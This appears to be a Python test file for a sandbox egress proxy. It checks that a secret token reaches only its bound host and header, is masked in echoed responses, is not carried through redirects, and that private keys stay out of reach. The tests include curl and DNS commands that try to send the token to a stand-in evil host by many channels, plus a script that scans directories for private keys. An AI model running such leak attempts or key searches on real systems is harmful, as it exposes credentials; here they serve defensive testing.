# SPDX-License-Identifier: Apache-2.0
"""
Rows 71 (in part), 79 and 82: what becomes of a secret that the door puts into requests. Each act carries the value away outside,
where it is in a variable as usual; inside the variable holds the placeholder, and the value may arrive in the bound header
of the bound host and nowhere else.
"""

import gzip
import json
import time

from cases_egress import EVIL, GOOD, PY, egress, need
from cases_secret import NET, VALUE, vault
from lib import SLOW, Fail

OTHER = "other.example.org"  # allowed, and not bound
BUNDLE = "/run/bawn/ca.pem"

# HOST HEADER-NAME [PROTOCOL]: one request with $TOKEN in that header, in TLS that wants that protocol.
PYTLS = """
import os, socket, ssl, sys, urllib.request
host, name, protocols = sys.argv[1], sys.argv[2], sys.argv[3:]
c = ssl.create_default_context()
c.load_verify_locations(os.environ.get("CA") or os.environ["SSL_CERT_FILE"])
c.set_alpn_protocols(protocols or ["http/1.1"])
s = c.wrap_socket(socket.create_connection((host, 443), 10), server_hostname=host)
s.sendall(f"GET /echo HTTP/1.1\\r\\nHost: {host}\\r\\n{name}: {os.environ['TOKEN']}\\r\\nConnection: close\\r\\n\\r\\n".encode())
got = b""
while data := s.recv(65536):
    got += data
sys.stdout.write(got.decode("latin-1"))
"""

# Says whether what it reads has the text, which it is told reversed, or its base64 behind "user:".
HAS = """
import base64, sys
text, value = sys.stdin.buffer.read(), sys.argv[1][::-1].encode()
both = [value, base64.b64encode(b"user:" + value)[8:-4], value.hex().encode()]
print("it has" if any(x in text for x in both) else "it lacks", len(text) > 0)
"""


def carried(w, mark):
    """What arrived with the value in it: (where, in what)."""
    out = []
    for x in w.seen(mark):
        text = json.dumps(x)
        try:
            text += gzip.decompress(x.get("text", "").encode("latin-1")).decode("latin-1")
        except (OSError, EOFError, UnicodeEncodeError):
            pass
        if VALUE.lower() in text.lower():
            out.append(x)
    return out


def prepare(t):
    """The world, and the options and variables of a run that has the secret."""
    w = t.internet()
    t.tls = t.file(t.base + "/bin/tls.py", PYTLS)
    t.has = t.file(t.base + "/bin/has.py", HAS)
    return w


def settings(t, w):
    return [*NET, *vault(t)], t.env(SSL_CERT_FILE=w.ca)


def starts(t, acts):
    """The acts that share a start: all of them where it takes long."""
    return ([acts] if acts else []) if t.tier in SLOW else [[a] for a in acts]


def stay(t, w, acts, settled):
    """Acts that carry the value outside, and inside do not. How many there are."""
    good = []
    for act in acts:
        mark = w.mark()
        t.host(f"CA={w.ca} TOKEN='{VALUE}'; export CA TOKEN; {act}")
        time.sleep(0.1)
        if carried(w, mark):
            good.append(act)
        else:
            t.skip_act(f"{t.say(act)}: carries nothing outside as well")
    t.acts += len(good)
    for those in [] if t.suite.outside_only else starts(t, good):
        mark = w.mark()
        answered = t.many(those, settled[0], env=settled[1])
        time.sleep(0.1)
        if carried(w, mark):
            t.failed.append(f"{'; '.join(map(t.say, those))}: the value arrived: {carried(w, mark)[:1]}")
        t.failed += [f"{t.say(a)}: no answer: {t.last}" for a, r in zip(those, answered) if r is None]
    return len(good)


def reach(t, w, acts, settled, host=GOOD):
    """Each brings the value to the bound host in its header, and to no other place."""
    for those in starts(t, acts):
        mark = w.mark()
        answered = t.many(those, settled[0], env=settled[1])
        got = carried(w, mark)
        if len(got) < len(those) or any(x["host"] != host or not x["tls"] for x in got):
            t.failed.append(f"{'; '.join(map(t.say, those))} should work: {got[:1]} {[str(r) for r in answered]}")


@egress(79, "placeholders of secrets become values in one place only")
def _(t):
    need("curl", "gzip")
    w = prepare(t)
    settled = None if t.suite.outside_only else settings(t, w)
    curl = "curl -sSm40 -k"
    bearer = '-H "Authorization: Bearer $TOKEN"'
    stay(t, w, [f"{curl} {bearer} https://{OTHER}/", f"{curl} {bearer} https://{OTHER}/ --noproxy '*'",
                f"{curl} {bearer} http://{GOOD}/", f"{curl} {bearer} http://{GOOD}/ --noproxy '*'",
                f"{curl} \"https://{GOOD}/$TOKEN\"", f"{curl} \"https://{GOOD}/?t=$TOKEN\"",
                f'{curl} -H "X-Leak: $TOKEN" https://{GOOD}/', f'{curl} -H "Cookie: t=$TOKEN" https://{GOOD}/',
                f'{curl} -A "$TOKEN" https://{GOOD}/', f'{curl} -d "t=$TOKEN" https://{GOOD}/',
                f'printf %s "$TOKEN" | gzip | {curl} -H "Content-Encoding: gzip" --data-binary @- https://{GOOD}/',
                f'getent ahosts "$TOKEN.{GOOD}"', f"{PY} {t.tls} {OTHER} Authorization",
                f"{PY} {t.tls} {GOOD} X-Leak h2", f"{PY} {t.tls} {GOOD} Authorization2",
                f"{curl} {bearer} https://{EVIL}/"], settled)


@egress(79, "where a secret is bound it works, for every way in")
def _(t):
    need("curl")
    w = prepare(t)
    if not stay(t, w, [f"curl -sSm40 -k -H \"X: $TOKEN\" https://{GOOD}/"], None if t.suite.outside_only else settings(t, w)) \
            or t.suite.outside_only:
        return
    settled = [*NET, *vault_again(t)], t.env(SSL_CERT_FILE=w.ca)
    reach(t, w, [f'curl -sSm40 -H "Authorization: Bearer $TOKEN" https://{GOOD}/',
                 f'curl -sSm40 --noproxy "*" -H "Authorization: Bearer $TOKEN" https://{GOOD}/',
                 f'curl -sSm40 --http2 -H "Authorization: Bearer $TOKEN" https://{GOOD}/',
                 f"{PY} {t.tls} {GOOD} Authorization h2 http/1.1"], settled)


def vault_again(t):
    """The options of the vault that this case has made already."""
    return ["--key-file", t.base + "/vault-key", "--secret", "TOKEN"]


@egress(79, "a secret that is sent back is masked on the way in")
def _(t):
    need("curl")
    w = prepare(t)
    find = f"{PY} {t.has} {VALUE[::-1]}"
    acts = [f'curl -sSm40 -k -H "Authorization: Bearer $TOKEN" https://{GOOD}/echo | {find}',
            f'curl -sSm40 -k -u "user:$TOKEN" https://{GOOD}/echo | {find}',
            f'curl -sSm40 -k --compressed -H "Authorization: $TOKEN" https://{GOOD}/echo | {find}',
            f"{PY} {t.tls} {GOOD} Authorization | {find}"]
    settled = None if t.suite.outside_only else settings(t, w)
    good = []
    for act in acts:
        r = t.host(f"CA={w.ca} TOKEN='{VALUE}'; export CA TOKEN; {act}")
        if "it has True" not in r.out:
            t.skip_act(f"{t.say(act)}: nothing comes back outside as well: {r}")
            continue
        t.acts += 1
        good.append(act)
    for those in [] if t.suite.outside_only else starts(t, good):
        for act, r in zip(those, t.many(those, settled[0], env=settled[1])):
            if r is None or "it lacks True" not in r.out:
                t.failed.append(f"{t.say(act)}: {r}")


@egress(71, "a redirect does not take a secret along")
def _(t):
    need("curl")
    w = prepare(t)
    settled = None if t.suite.outside_only else settings(t, w)
    act = (f'curl -sSLm40 -k --location-trusted -H "Authorization: Bearer $TOKEN" '
           f"'https://{GOOD}/redirect?to=https://{OTHER}/x'")
    mark = w.mark()
    t.host(f"TOKEN='{VALUE}'; export TOKEN; {act}")
    if not [x for x in carried(w, mark) if x["host"] == OTHER]:
        t.skip_act("the redirect is not followed outside as well")
        return
    t.acts += 1
    if t.suite.outside_only:
        return
    mark = w.mark()
    r = t.bawn(act, settled[0], env=settled[1])
    got = carried(w, mark)
    if [x["host"] for x in got] != [GOOD] or not w.seen(mark, host=OTHER):
        t.failed.append(f"the redirect: {got} {r}")


# Looks for private keys in files, and in the memory of every process it may read.
KEYS = r"""
import os, sys
found = set()
needles = [b"PRIVATE " + b"KEY-----"]
for top in sys.argv[1:]:
    for base, dirs, files in os.walk(top):
        for f in files:
            path = os.path.join(base, f)
            try:
                fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                data = os.read(fd, 1 << 20)
                os.close(fd)
            except OSError:
                continue
            if any(n in data for n in needles):
                found.add(path)
doors = []
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        with open(f"/proc/{pid}/comm") as f:
            if f.read().startswith("bawn-egress"):
                doors.append(pid)
    except OSError:
        pass
print("keys", len(found), "doors", len(doors), sorted(found)[:3])
"""

# HOST: who vouches for it, as seen from here.
WHO = """
import os, socket, ssl, sys
c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
for pair in sys.argv[2:]:
    host, name = pair.split("=")
    try:
        s = c.wrap_socket(socket.create_connection((host, 443), 10), server_hostname=name)
        pem = ssl.DER_cert_to_PEM_cert(s.getpeercert(True))
        d = ssl._ssl._test_decode_cert
        with open("/tmp/x.pem", "w") as f:
            f.write(pem)
        who = dict(x[0] for x in d("/tmp/x.pem")["issuer"])
        print(pair, who.get("organizationName", who.get("commonName")), [v for _, v in d("/tmp/x.pem")["subjectAltName"]])
        strict = ssl.create_default_context(cafile=sys.argv[1])
        strict.wrap_socket(socket.create_connection((host, 443), 10), server_hostname=name)
        print(pair, "trusted")
    except (OSError, ssl.SSLError) as e:
        print(pair, "refused", e)
"""


@egress(82, "the authority of the door stays with the door")
def _(t):
    w = prepare(t)
    keys, who = t.file(t.base + "/bin/keys.py", KEYS), t.file(t.base + "/bin/who.py", WHO)
    t.file(t.out + "/key.pem", "-----BEGIN PRIVATE KEY-----\nx\n-----END PRIVATE KEY-----\n")
    act = f"{PY} {keys} {t.out}"
    if "keys 1" not in t.host(act).out:
        raise Fail("the search does not find a key outside")
    t.outside_ok()
    settled = settings(t, w)
    r = t.bawn(act + " /run /etc/ssl /etc/pki /tmp /dev/shm /var/tmp $HOME", settled[0], env=settled[1])
    if not r.out.startswith("keys 0 doors 0"):
        t.failed.append(f"inside there is {r}")
    r = t.bawn(f"{PY} {who} {BUNDLE} {GOOD}={GOOD} {OTHER}={OTHER} {GOOD}={OTHER} {OTHER}={GOOD}", settled[0], env=settled[1])
    lines = r.out.splitlines()
    for want in (f"{GOOD}={GOOD} bawn session authority", f"{GOOD}={GOOD} trusted", f"{OTHER}={OTHER} test CA",
                 f"{GOOD}={OTHER} refused", f"{OTHER}={GOOD} refused"):
        if not any(x.startswith(want) for x in lines):
            t.failed.append(f"not '{want}' but {r}")
    if any("bawn session" in x and GOOD + "=" + GOOD not in x for x in lines) or f"['{GOOD}']" not in r.out:
        t.failed.append(f"the door vouches for others: {r}")


@egress(82, "every session has an authority of its own")
def _(t):
    w = prepare(t)
    t.outside_ok()
    settled = settings(t, w)
    show = (f"{PY} -c 'import ssl, sys\nfor p in open(\"{BUNDLE}\").read().split(\"-----END CERTIFICATE-----\")[:-1]:\n"
            " open(\"/tmp/c\", \"w\").write(p + \"-----END CERTIFICATE-----\\n\")\n"
            " d = ssl._ssl._test_decode_cert(\"/tmp/c\")\n"
            " who = dict(x[0] for x in d[\"subject\"]).get(\"organizationName\", \"\")\n"
            " if who.startswith(\"bawn session\"): print(who, d[\"serialNumber\"])'")
    seen = [t.bawn(show, settled[0], env=settled[1]).out.splitlines() for _ in range(2)]
    if [len(x) for x in seen] != [1, 1] or seen[0] == seen[1]:
        t.failed.append(f"the authorities: {seen}")
